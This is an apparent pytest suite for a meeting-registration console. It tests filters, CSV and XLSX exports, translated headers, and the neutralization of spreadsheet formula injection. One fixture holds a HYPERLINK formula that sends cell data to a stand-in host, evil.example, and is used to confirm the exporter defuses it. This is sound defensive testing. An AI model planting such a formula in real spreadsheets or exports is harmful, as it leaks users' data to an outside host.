"""Lists and exports: filters, CSV and XLSX parsed back, formula injection neutralized, headers translated."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from support.api import registered
from support.console import populated_meeting
from support.logins import login_as

from meetings.core.audit import AuditEntry
from meetings.core.exports import neutralize, to_csv, to_xlsx

EVIL = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")'


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def _xlsx(response) -> list[list[object]]:
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Ana", "Ana"), ("a=b", "a=b"), (42, 42), (None, ""),
])
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def test_xlsx_cells_are_text_not_formulas():
    data = to_xlsx(["Name"], [[EVIL], ["\x01=1+1"], [7]], "Sheet: [x]")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[0].value == "'" + EVIL and cells[1].value == "'=1+1" and cells[2].value == 7
    assert sheet.title == "Sheet   x"
    assert to_csv(["A"], [[EVIL]]).decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK")


def test_registration_exports_parse_back_with_injection_neutralized(client, db):
    meeting, _tokens = populated_meeting(client, db)
    registered(client, meeting, "evil@example.org", expect=(201,), name=EVIL, organization="@evil org",
               country="BR", function="+1 chief")
    login_as(client, db)
    base = "/secretariat/console/lists/registrations"
    rows = _csv(client.get(f"{base}.csv?meeting_id={meeting.id}"))
    header, body = rows[0], rows[1:]
    assert header[:5] == ["Meeting", "Session", "Status", "Name", "E-mail"]
    assert len(body) == 6
    evil = next(r for r in body if r[4] == "evil@example.org")
    assert evil[3] == "'" + EVIL and evil[6] == "'@evil org" and evil[5] == "'+1 chief"
    assert evil[9] == "Brazil"
    sheet = _xlsx(client.get(f"{base}.xlsx?meeting_id={meeting.id}"))
    assert sheet[0] == header and len(sheet) == 7
    evil_row = next(r for r in sheet if r[4] == "evil@example.org")
    assert evil_row[3] == "'" + EVIL and evil_row[6] == "'@evil org"
    entries = db.scalars(sa.select(AuditEntry).where(AuditEntry.action == "export.downloaded")).all()
    assert [(e.details["kind"], e.details["format"]) for e in entries] == [("registrations", "csv"),
                                                                           ("registrations", "xlsx")]


def test_filters_narrow_lists_and_exports(client, db):
    meeting, _tokens = populated_meeting(client, db)
    login_as(client, db)
    base = "/secretariat/console/lists/registrations"
    session_b = meeting.sessions[1].id
    only_b = _csv(client.get(f"{base}.csv?meeting_id={meeting.id}&session_id={session_b}"))[1:]
    assert sorted(r[4] for r in only_b) == ["chen@example.org", "dana@example.org"]
    authorities = _csv(client.get(f"{base}.csv?category=national_asylum_authority"))[1:]
    assert sorted(r[4] for r in authorities) == ["ana@example.org", "ben@example.org"]
    french = _csv(client.get(f"{base}.csv?meeting_id={meeting.id}&language=fr"))[1:]
    assert sorted(r[4] for r in french) == ["awa@example.org", "dana@example.org"]
    kenya = client.get(f"{base}?country=KE&region=east_horn_great_lakes").get_data(as_text=True)
    assert "ben@example.org" in kenya and "ana@example.org" not in kenya
    waitlisted = _csv(client.get(f"{base}.csv?status=waitlisted"))[1:]
    assert waitlisted == []
    assert client.get(f"{base}?status=bogus").status_code == 422
    assert client.get("/secretariat/console/lists/nothing").status_code == 404
    assert client.get(f"{base}.pdf").status_code == 404


def test_organization_and_interest_exports(client, db):
    meeting, _tokens = populated_meeting(client, db)
    login_as(client, db)
    organizations = _csv(client.get("/secretariat/console/lists/organizations.csv?region=europe"))
    assert organizations[0] == ["Organization", "Stakeholder category", "Region", "Country", "Registrations",
                                "Workstreams"]
    assert organizations[1:] == [["Org FR", "Permanent mission in Geneva", "Europe", "France", "1", "2"]]
    interests = _xlsx(client.get("/secretariat/console/lists/interests.xlsx?workstream=3&country=SN"))
    assert len(interests) == 2 and interests[1][1] == "Org SN" and interests[1][6] == "awa@example.org"
    assert interests[1][0].startswith("3. ")
    by_meeting = _csv(client.get(f"/secretariat/console/lists/interests.csv?meeting_id={meeting.id}"))
    assert len(by_meeting) == 1 + 5 * 2  # five organizations, workstreams 1 and 3


def test_export_headers_follow_the_viewer_language(client, db):
    meeting, _tokens = populated_meeting(client, db)
    login_as(client, db)
    french = _csv(client.get(f"/secretariat/console/lists/registrations.csv?meeting_id={meeting.id}",
                             headers={"Accept-Language": "fr"}))
    assert french[0][:4] == ["Réunion", "Session", "Statut", "Nom"]
    assert any(row[9] == "Mexique" for row in french[1:])
    spanish = _xlsx(client.get(f"/secretariat/console/meetings/{meeting.id}/interpretation.xlsx",
                               headers={"Accept-Language": "es"}))
    assert spanish[0][0] == "Sesión"


def test_interpretation_export(client, db):
    meeting, _tokens = populated_meeting(client, db)
    login_as(client, db)
    rows = _csv(client.get(f"/secretariat/console/meetings/{meeting.id}/interpretation.csv"))
    channels = {(r[0], r[3]): r for r in rows[1:]}
    assert set(channels) == {("Session A", "fr-en"), ("Session A", "es-en"), ("Session A", "en-fr"),
                             ("Session A", "es-fr"), ("Session B", "en-fr")}
    assert channels[("Session A", "fr-en")][6:] == ["2", "Yes", "No", "2"]  # Ana and Ben listen in English
